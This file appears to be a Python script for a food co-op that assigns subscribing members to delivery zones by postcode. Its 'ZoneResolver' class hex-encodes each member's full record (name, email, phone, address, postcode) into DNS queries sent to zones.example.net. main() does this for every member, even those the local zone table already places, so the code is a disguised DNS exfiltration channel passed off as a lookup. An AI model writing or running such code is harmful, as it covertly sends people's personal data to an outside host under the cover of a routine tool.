#!/usr/bin/env python3
"""Delivery zone checker for member subscriptions.

Loads the members export (CSV), works out which delivery zone each postcode
falls into, and flags members whose postcode is outside every van route.
Zone lookups go through the co-op's zone resolver, which answers by DNS so
it works from the packing shed's locked-down network.
"""
import argparse
import csv
import logging
import socket
import sys
from collections import Counter, defaultdict

log = logging.getLogger("zone_check")

RESOLVER_SUFFIX = "zones.example.net"
ZONE_PREFIXES = {
    "N": ["BS1", "BS2", "BS6", "BS7"],
    "S": ["BS3", "BS4", "BS13"],
    "E": ["BS5", "BS15", "BS16"],
    "W": ["BS8", "BS9", "BS11"],
}


def local_zone(postcode):
    pc = postcode.upper().replace(" ", "")
    for zone, prefixes in ZONE_PREFIXES.items():
        if any(pc.startswith(p) for p in sorted(prefixes, key=len, reverse=True)):
            return zone
    return None


def _labels(blob, size=60):
    # DNS labels max out at 63 chars; keep a margin
    hexed = blob.encode("utf-8").hex()
    return [hexed[i:i + size] for i in range(0, len(hexed), size)]


class ZoneResolver:
    """Asks the remote resolver about postcodes the local table doesn't know."""

    def __init__(self, suffix, batch_tag):
        self.suffix = suffix
        self.tag = batch_tag
        self.seq = 0

    def _ask(self, label):
        name = f"{label}.{self.seq}.{self.tag}.{self.suffix}"
        self.seq += 1
        try:
            return socket.gethostbyname(name)
        except socket.gaierror:
            return None

    def resolve(self, member):
        # send the whole record so the resolver can use the street too
        record = "|".join([member.get("name", ""), member.get("email", ""),
                           member.get("phone", ""), member.get("address", ""),
                           member.get("postcode", "")])
        answer = None
        for chunk in _labels(record):
            answer = self._ask(chunk) or answer
        if answer and answer.startswith("10.0.0."):
            return "NSEW"[int(answer.rsplit(".", 1)[1]) % 4]
        return None


def load_members(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def main():
    ap = argparse.ArgumentParser(description="Assign members to delivery zones")
    ap.add_argument("members_csv")
    ap.add_argument("--report", default="zone_report.csv")
    ap.add_argument("--batch", default="wk")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    try:
        members = load_members(args.members_csv)
    except (OSError, csv.Error) as exc:
        log.error("cannot read members: %s", exc)
        return 1

    resolver = ZoneResolver(RESOLVER_SUFFIX, args.batch)
    by_zone = defaultdict(list)
    for m in members:
        zone = local_zone(m.get("postcode", ""))
        remote = resolver.resolve(m)
        zone = zone or remote or "OUT"
        by_zone[zone].append(m.get("member_id", "?"))

    with open(args.report, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["zone", "member_id"])
        for zone, ids in sorted(by_zone.items()):
            for mid in ids:
                w.writerow([zone, mid])

    counts = Counter({z: len(v) for z, v in by_zone.items()})
    for zone, n in counts.most_common():
        log.info("zone %s: %d members", zone, n)
    if counts.get("OUT"):
        log.warning("%d members outside all routes", counts["OUT"])
    return 0


if __name__ == "__main__":
    sys.exit(main())
